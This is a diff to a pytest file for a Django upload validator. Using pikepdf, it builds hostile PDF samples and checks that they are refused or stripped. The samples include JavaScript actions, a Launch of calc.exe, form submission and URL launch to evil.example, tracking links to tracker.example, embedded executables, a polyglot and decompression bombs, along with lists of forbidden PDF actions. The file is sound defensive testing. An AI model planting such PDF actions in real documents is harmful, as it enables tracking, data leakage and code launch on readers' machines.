@@ -1,14 +1,18 @@
-"""Uploads are judged by their content: a corpus of hostile files, each refused with its reason."""
+"""Uploads are judged by their content: a corpus of hostile files, each refused with its reason or defused."""
 
 import io
+import re
 import struct
 import zlib
 
+import pikepdf
 import pytest
 from django.core.exceptions import ValidationError
 from django.core.files.uploadedfile import SimpleUploadedFile
+from pikepdf import Array, Dictionary, Name, String
 from PIL import Image, PngImagePlugin
 
+from applications import uploads
 from applications.uploads import check_document, check_photo, safe_display_name
 
 from .factories import MINIMAL_PDF
@@ -47,6 +51,383 @@ def refused(check, name, content, max_bytes=5 * MB):
     return error.value.code
 
 
+# --- PDFs, built with pikepdf ---------------------------------------------------------------------
+
+
+def new_pdf(pages=1):
+    """A normal certificate: text in Helvetica and a JPEG picture on every page."""
+    pdf = pikepdf.new()
+    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
+    picture = pdf.make_stream(
+        image_bytes((64, 64)),
+        Type=Name.XObject,
+        Subtype=Name.Image,
+        Width=64,
+        Height=64,
+        ColorSpace=Name.DeviceRGB,
+        BitsPerComponent=8,
+        Filter=Name.DCTDecode,
+    )
+    for _ in range(pages):
+        page = pdf.add_blank_page(page_size=(595, 842))
+        page.Resources = Dictionary(Font=Dictionary(F1=font), XObject=Dictionary(Im1=picture))
+        page.Contents = pdf.make_stream(
+            b"BT /F1 24 Tf 72 760 Td (SIJIL PELAJARAN MALAYSIA) Tj ET q 100 0 0 100 72 600 cm /Im1 Do Q"
+        )
+    return pdf
+
+
+def pdf_bytes(pdf, **options):
+    buffer = io.BytesIO()
+    pdf.save(buffer, **options)
+    return buffer.getvalue()
+
+
+def action(pdf, kind, **entries):
+    return pdf.make_indirect(Dictionary(S=Name(kind), **entries))
+
+
+def link(pdf, target):
+    return pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[72, 700, 300, 730], A=target))
+
+
+def with_link(target_of):
+    def build(pdf):
+        pdf.pages[0].Annots = Array([link(pdf, target_of(pdf))])
+
+    return build
+
+
+def javascript(pdf):
+    return action(pdf, "/JavaScript", JS=String("app.alert('Sijil palsu');"))
+
+
+def open_action_javascript(pdf):
+    pdf.Root.OpenAction = javascript(pdf)
+
+
+def names_javascript(pdf):
+    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), javascript(pdf)])))
+
+
+def goto_then_javascript(pdf):
+    script = Dictionary(S=Name.JavaScript, JS=String("app.launchURL('https://evil.example')"))  # a direct object
+    pdf.Root.OpenAction = action(pdf, "/GoTo", D=Array([pdf.pages[0].obj, Name.Fit]), Next=Array([script]))
+
+
+def field(pdf, **entries):
+    widget = pdf.make_indirect(
+        Dictionary(Type=Name.Annot, Subtype=Name.Widget, Rect=[72, 500, 300, 530], P=pdf.pages[0].obj, **entries)
+    )
+    pdf.pages[0].Annots = Array([widget])
+    pdf.Root.AcroForm = Dictionary(Fields=Array([widget]))
+    return widget
+
+
+def submit_form(pdf):
+    field(pdf, FT=Name.Btn, T=String("hantar"), A=action(pdf, "/SubmitForm", F=String("https://evil.example/x")))
+
+
+def keystroke_javascript(pdf):
+    field(pdf, FT=Name.Tx, T=String("nama"), AA=Dictionary(K=javascript(pdf)))
+
+
+def xfa_form(pdf):
+    field(pdf, FT=Name.Tx, T=String("nama"))
+    pdf.Root.AcroForm.XFA = pdf.make_stream(b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")
+
+
+def embedded_file(pdf):
+    pdf.attachments["sijil.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", filename="sijil.exe")
+
+
+def file_attachment_annotation(pdf):
+    payload = pdf.make_stream(b"MZ\x90\x00")  # no /Type /EmbeddedFile: only /EF says what it is
+    filespec = Dictionary(Type=Name.Filespec, F=String("sijil.exe"), EF=Dictionary(F=payload))
+    pdf.pages[0].Annots = Array(
+        [pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 20, 20], FS=filespec))]
+    )
+
+
+def rich_media(pdf):
+    pdf.pages[0].Annots = Array(
+        [pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 20, 20]))]
+    )
+
+
+def page_open_javascript(pdf):
+    pdf.pages[0].AA = Dictionary(O=javascript(pdf))
+
+
+IN_OBJECT_STREAMS = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}  # compressed: no name in sight
+
+HOSTILE_PDFS = [
+    # label, how the PDF is made hostile, save options, expected refusal
+    ("JavaScript at opening", open_action_javascript, {}, "pdf_active_content"),
+    ("JavaScript in an object stream", open_action_javascript, IN_OBJECT_STREAMS, "pdf_active_content"),
+    ("JavaScript name tree, object stream", names_javascript, IN_OBJECT_STREAMS, "pdf_active_content"),
+    ("JavaScript after a GoTo (/Next)", goto_then_javascript, IN_OBJECT_STREAMS, "pdf_active_content"),
+    ("JavaScript on page open (/AA)", page_open_javascript, IN_OBJECT_STREAMS, "pdf_active_content"),
+    ("JavaScript on a field keystroke", keystroke_javascript, IN_OBJECT_STREAMS, "pdf_active_content"),
+    (
+        "Launch calc.exe from a link",
+        with_link(lambda pdf: action(pdf, "/Launch", F=String("calc.exe"), Win=Dictionary(F=String("calc.exe")))),
+        IN_OBJECT_STREAMS,
+        "pdf_active_content",
+    ),
+    ("SubmitForm", submit_form, {}, "pdf_active_content"),
+    (
+        "GoToR to a network share",
+        with_link(lambda pdf: action(pdf, "/GoToR", F=String("\\\\evil.example\\s\\x.pdf"), D=Array([0, Name.Fit]))),
+        {},
+        "pdf_active_content",
+    ),
+    ("ImportData", with_link(lambda pdf: action(pdf, "/ImportData", F=String("x.fdf"))), {}, "pdf_active_content"),
+    ("EmbeddedFiles name tree", embedded_file, IN_OBJECT_STREAMS, "pdf_active_content"),
+    ("FileAttachment annotation", file_attachment_annotation, {}, "pdf_active_content"),
+    ("RichMedia annotation", rich_media, {}, "pdf_active_content"),
+    ("XFA form", xfa_form, {}, "pdf_active_content"),
+    ("password to open", lambda pdf: None, {"encryption": pikepdf.Encryption(owner="o", user="u")}, "pdf_encrypted"),
+]
+
+
+def hostile_pdf(build, options):
+    pdf = new_pdf()
+    build(pdf)
+    return pdf_bytes(pdf, **options)
+
+
+@pytest.mark.parametrize(("label", "build", "options", "code"), HOSTILE_PDFS, ids=[case[0] for case in HOSTILE_PDFS])
+def test_pdfs_with_active_content_are_refused(label, build, options, code):
+    assert refused(check_document, "sijil.pdf", hostile_pdf(build, options)) == code
+
+
+def test_a_hex_escaped_javascript_name_is_still_javascript():
+    pdf = new_pdf()
+    open_action_javascript(pdf)
+    content = pdf_bytes(pdf)
+    # Same length, so the cross-reference table stays right: /JS and /JavaScript written with # escapes.
+    assert content.count(b"<< /JS ") == 1 and content.count(b" /S /JavaScript") == 1
+    content = content.replace(b"<< /JS ", b"<</J#53").replace(b" /S /JavaScript", b"/S/J#61vaScript")
+    with pikepdf.open(io.BytesIO(content)) as reopened:
+        assert str(reopened.Root.OpenAction.S) == "/JavaScript" and not reopened.get_warnings()
+    assert refused(check_document, "sijil.pdf", content) == "pdf_active_content"
+
+
+FORBIDDEN_KEYS = {"/JS", "/JavaScript", "/AA", "/EmbeddedFiles", "/EF", "/XFA", "/RichMediaContent", "/Perms"}
+FORBIDDEN_ACTIONS = {
+    "/JavaScript",
+    "/Launch",
+    "/URI",
+    "/SubmitForm",
+    "/ResetForm",
+    "/ImportData",
+    "/GoToR",
+    "/GoToE",
+    "/GoToDp",
+    "/RichMediaExecute",
+    "/Rendition",
+    "/Sound",
+    "/Movie",
+    "/Named",
+    "/Hide",
+    "/GoTo3DView",
+}
+FORBIDDEN_SUBTYPES = {"/FileAttachment", "/RichMedia", "/Screen", "/Movie", "/Sound", "/3D"}
+RAW_FORBIDDEN = re.compile(
+    rb"/(JavaScript|JS|URI|Launch|SubmitForm|GoToR|EmbeddedFiles?|EF|XFA|AA|ObjStm)[\s/<>\[\]()]"
+)
+
+
+def dictionaries(pdf):
+    """Every dictionary of the file: each object, and everything nested in it."""
+    stack = [pdf.trailer, *pdf.objects]
+    while stack:
+        obj = stack.pop()
+        if isinstance(obj, (Dictionary, pikepdf.Stream)):
+            yield obj
+            stack.extend(
+                v for v in obj.values() if isinstance(v, (Dictionary, Array, pikepdf.Stream)) and not v.is_indirect
+            )
+        elif isinstance(obj, Array):
+            stack.extend(v for v in obj if isinstance(v, (Dictionary, Array, pikepdf.Stream)) and not v.is_indirect)
+
+
+def assert_inert(content):
+    """The STORED bytes, reopened: a plain PDF with pages and no active content, no link, no automatic action."""
+    assert content.startswith(b"%PDF-")
+    assert not RAW_FORBIDDEN.search(content)  # no object streams, so every name is in plain sight
+    with pikepdf.open(io.BytesIO(content)) as pdf:
+        assert not pdf.is_encrypted
+        assert len(pdf.pages) >= 1
+        opening = pdf.Root.get("/OpenAction")
+        assert opening is None or isinstance(opening, Array) or str(opening.S) == "/GoTo"
+        for obj in dictionaries(pdf):
+            assert not set(obj.keys()) & FORBIDDEN_KEYS, repr(obj)
+            assert str(obj.get("/S", "")) not in FORBIDDEN_ACTIONS, repr(obj)
+            assert str(obj.get("/Subtype", "")) not in FORBIDDEN_SUBTYPES, repr(obj)
+            assert not (obj.get("/FT") == Name.Sig and "/V" in obj)
+
+
+def beacon(pdf):
+    return action(pdf, "/URI", URI=String("https://tracker.example/open?calon=123"))
+
+
+def outline_with_link(pdf):
+    with pdf.open_outline() as outline:
+        outline.root.append(pikepdf.OutlineItem("Semak sijil", action=beacon(pdf)))
+
+
+def relative_link(pdf):
+    pdf.Root.URI = Dictionary(Base=String("https://tracker.example/"))
+    with_link(lambda pdf: action(pdf, "/URI", URI=String("open?calon=123")))(pdf)
+
+
+def goto_then_beacon(pdf):
+    pdf.Root.OpenAction = action(pdf, "/GoTo", D=Array([pdf.pages[0].obj, Name.Fit]), Next=beacon(pdf))
+
+
+def signed(pdf):
+    signature = pdf.make_indirect(
+        Dictionary(Type=Name.Sig, Filter=Name("/Adobe.PPKLite"), ByteRange=[0, 10, 20, 30], Contents=String("x"))
+    )
+    field(pdf, FT=Name.Sig, T=String("Pendaftar"), V=signature)
+    pdf.Root.AcroForm.SigFlags = 3
+    pdf.Root.Perms = Dictionary(DocMDP=signature)
+
+
+DEFUSED_PDFS = [
+    # label, how the PDF is made, save options: accepted, and stored without the link or action
+    ("URI beacon on a link (verification link)", with_link(beacon), {}),
+    ("URI beacon in an object stream", with_link(beacon), IN_OBJECT_STREAMS),
+    ("URI beacon at opening", lambda pdf: setattr(pdf.Root, "OpenAction", beacon(pdf)), {}),
+    ("URI beacon on page open (/AA)", lambda pdf: setattr(pdf.pages[0], "AA", Dictionary(O=beacon(pdf))), {}),
+    ("URI beacon in a bookmark", outline_with_link, {}),
+    ("relative URI and its base", relative_link, {}),
+    ("article thread in another file", with_link(lambda pdf: action(pdf, "/Thread", F=String("x.pdf"), D=0)), {}),
+    ("URI after a GoTo (/Next)", goto_then_beacon, {}),
+    ("Named action (menu item) on a link", with_link(lambda pdf: action(pdf, "/Named", N=Name.Print)), {}),
+    ("ResetForm on a button", lambda pdf: field(pdf, FT=Name.Btn, T=String("b"), A=action(pdf, "/ResetForm")), {}),
+    ("signed: the signature no longer matches", signed, {}),
+    (
+        "restrictions only (opens without a password)",
+        lambda pdf: None,
+        {"encryption": pikepdf.Encryption(owner="o", user="")},
+    ),
+]
+
+
+@pytest.mark.parametrize(("label", "build", "options"), DEFUSED_PDFS, ids=[case[0] for case in DEFUSED_PDFS])
+def test_links_and_automatic_actions_are_removed_from_the_stored_pdf(label, build, options):
+    content = hostile_pdf(build, options)
+    stored = check_document(upload("transkrip.pdf", content), max_bytes=5 * MB)
+    assert stored.content != content
+    assert_inert(stored.content)
+    with pikepdf.open(io.BytesIO(stored.content)) as pdf:
+        assert b"SIJIL PELAJARAN MALAYSIA" in pdf.pages[0].Contents.read_bytes()
+
+
+def test_a_link_inside_the_document_is_kept():
+    pdf = new_pdf(pages=2)
+    pdf.pages[0].Annots = Array([link(pdf, action(pdf, "/GoTo", D=Array([pdf.pages[1].obj, Name.Fit])))])
+    stored = check_document(upload("sijil.pdf", pdf_bytes(pdf)), max_bytes=5 * MB)
+    assert_inert(stored.content)
+    with pikepdf.open(io.BytesIO(stored.content)) as reopened:
+        assert str(reopened.pages[0].Annots[0].A.S) == "/GoTo"
+
+
+def test_a_valid_pdf_with_text_and_a_picture_is_stored_as_qpdf_rewrote_it():
+    content = pdf_bytes(new_pdf(pages=3))
+    stored = check_document(upload("sijil.exe", content), max_bytes=5 * MB)
+    assert (stored.content_type, stored.extension) == ("application/pdf", ".pdf")
+    assert_inert(stored.content)
+    with pikepdf.open(io.BytesIO(stored.content)) as pdf:
+        assert len(pdf.pages) == 3
+        assert b"SIJIL PELAJARAN MALAYSIA" in pdf.pages[2].Contents.read_bytes()
+        assert pdf.pages[2].Resources.XObject.Im1.read_raw_bytes() == image_bytes((64, 64))
+
+
+def test_the_minimal_pdf_of_the_tests_is_a_real_one_page_pdf():
+    assert_inert(check_document(upload("sijil.pdf", MINIMAL_PDF), max_bytes=5 * MB).content)
+
+
+def test_a_pdf_with_html_after_its_end_is_stored_without_it():
+    content = pdf_bytes(new_pdf()) + b"<html><script>alert(1)</script></html>\n"
+    stored = check_document(upload("sijil.pdf", content + b"%%EOF\n"), max_bytes=5 * MB)
+    assert b"<script" not in stored.content
+
+
+def raw_pdf(objects: dict[int, bytes], object_stream: bytes | None = None, compressed: int = 0) -> bytes:
+    """A PDF written byte by byte, with a cross-reference stream; object 1 is the catalogue.
+
+    With `object_stream`, objects 2 .. 1 + `compressed` are said to live in it (object number 90).
+    """
+    out = bytearray(b"%PDF-1.5\n")
+    offsets = {}
+    for number, body in objects.items():
+        offsets[number] = len(out)
+        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
+    if object_stream is not None:
+        offsets[90] = len(out)
+        out += b"90 0 obj\n<</Type/ObjStm/N %d/First 10/Filter/FlateDecode/Length %d>>stream\n" % (
+            compressed,
+            len(object_stream),
+        )
+        out += object_stream + b"\nendstream\nendobj\n"
+    size = 92
+    offsets[91] = len(out)
+    rows = b""
+    for number in range(size):
+        if number in offsets:
+            rows += struct.pack(">BIH", 1, offsets[number], 0)
+        elif object_stream is not None and 2 <= number < 2 + compressed:
+            rows += struct.pack(">BIH", 2, 90, number - 2)
+        else:
+            rows += struct.pack(">BIH", 0, 0, 0xFFFF)
+    out += b"91 0 obj\n<</Type/XRef/Size %d/W[1 4 2]/Root 1 0 R/Length %d>>stream\n" % (size, len(rows))
+    out += rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[91]
+    return bytes(out)
+
+
+ONE_PAGE = {
+    1: b"<</Type/Catalog/Pages 3 0 R/OpenAction 2 0 R>>",
+    3: b"<</Type/Pages/Kids[4 0 R]/Count 1>>",
+    4: b"<</Type/Page/Parent 3 0 R/MediaBox[0 0 595 842]/Resources<<>>>>",
+}
+
+
+def test_an_object_stream_that_inflates_to_128_mb_is_refused_quickly():
+    """4 MB of such a file made qpdf decompress 4 GB in 38 seconds: the checker caps every stream at 64 MB."""
+    compressor = zlib.compressobj(9)
+    stream = [compressor.compress(b"2 0       ")] + [compressor.compress(b" " * MB) for _ in range(128)]
+    stream += [compressor.compress(b"<</S/JavaScript/JS(app.alert(1))>>"), compressor.flush()]
+    content = raw_pdf(ONE_PAGE, b"".join(stream), compressed=1)
+    assert refused(check_document, "sijil.pdf", content) == "pdf_too_complex"
+
+
+def test_a_pdf_of_millions_of_tiny_objects_is_refused_within_bounds():
+    """A 5 MB array of numbers costs qpdf about 400 MB: the checker's own memory and work limits stop it."""
+    objects = {**ONE_PAGE, 2: b"[" + b"0 " * 2_400_000 + b"]"}
+    assert refused(check_document, "sijil.pdf", raw_pdf(objects)) == "pdf_too_complex"
+
+
+def test_a_pdf_over_the_page_limit_is_refused():
+    content = pdf_bytes(new_pdf(pages=uploads.PDF_MAX_PAGES + 1))
+    with pytest.raises(ValidationError) as error:
+        check_document(upload("sijil.pdf", content), max_bytes=5 * MB)
+    assert error.value.code == "pdf_too_many_pages"
+    assert str(uploads.PDF_MAX_PAGES) in error.value.messages[0]
+
+
+def test_a_broken_checker_is_a_fault_of_the_server_not_of_the_file(monkeypatch, tmp_path):
+    monkeypatch.setattr(uploads, "PDF_CHECKER", tmp_path / "missing.py")
+    with pytest.raises(OSError, match="PDF checker failed"):
+        check_document(upload("sijil.pdf", MINIMAL_PDF), max_bytes=5 * MB)
+
+
+NO_PAGE = pdf_bytes(pikepdf.new())
+REAL_PDF = pdf_bytes(new_pdf())
+
 HOSTILE = [
     ("executable renamed .pdf", "cv.pdf", b"MZ\x90\x00\x03" + b"\x00" * 200, "file_type"),
     ("ELF renamed .jpg", "gambar.jpg", b"\x7fELF" + b"\x00" * 200, "file_type"),
@@ -59,15 +440,17 @@ HOSTILE = [
     ),
     ("ZIP named .pdf", "sijil.pdf", b"PK\x03\x04" + b"\x00" * 100, "file_type"),
     ("GIF", "a.gif", b"GIF89a" + b"\x00" * 50, "file_type"),
+    ("HTML/PDF polyglot", "a.pdf", b"%PDF-1.4\n<html><script>alert(1)</script></html>\n%%EOF\n", "file_type"),
+    ("the 14-byte PDF", "a.pdf", b"%PDF-1.4 %%EOF", "file_corrupt"),
     (
-        "PDF with JavaScript",
+        "PDF-looking text",
         "a.pdf",
         b"%PDF-1.4\n1 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n%%EOF\n",
-        "pdf_active_content",
+        "file_corrupt",
     ),
-    ("PDF that launches", "a.pdf", b"%PDF-1.4\n1 0 obj<</S/Launch/F(cmd.exe)>>endobj\n%%EOF\n", "pdf_active_content"),
-    ("HTML/PDF polyglot", "a.pdf", b"%PDF-1.4\n<html><script>alert(1)</script></html>\n%%EOF\n", "file_type"),
-    ("truncated PDF", "a.pdf", b"%PDF-1.4\n1 0 obj<<>>endobj\n", "file_corrupt"),
+    ("truncated PDF", "a.pdf", REAL_PDF[: len(REAL_PDF) // 2], "file_corrupt"),
+    ("truncated PDF ending in %%EOF", "a.pdf", REAL_PDF[: len(REAL_PDF) // 2] + b"\n%%EOF\n", "file_corrupt"),
+    ("PDF without a page", "a.pdf", NO_PAGE, "pdf_no_pages"),
     ("truncated JPEG", "a.jpg", image_bytes()[:100], "file_corrupt"),
     ("PNG bomb", "bomb.png", png_claiming(50_000, 50_000), "image_too_large"),
     ("empty file", "a.pdf", b"", "file_empty"),
@@ -85,11 +468,6 @@ def test_a_file_over_the_limit_is_refused_without_reading_it_all():
 
 def test_a_50_mb_file_is_refused():
     assert refused(check_document, "huge.pdf", b"%PDF-1.7\n" + b"0" * (50 * MB)) == "file_too_large"
-
-
-def test_a_valid_pdf_is_kept_as_sent():
-    checked = check_document(upload("sijil.exe", MINIMAL_PDF), max_bytes=5 * MB)
-    assert (checked.content, checked.content_type, checked.extension) == (MINIMAL_PDF, "application/pdf", ".pdf")
 
 
 def test_a_jpeg_is_reencoded_without_its_gps_metadata():
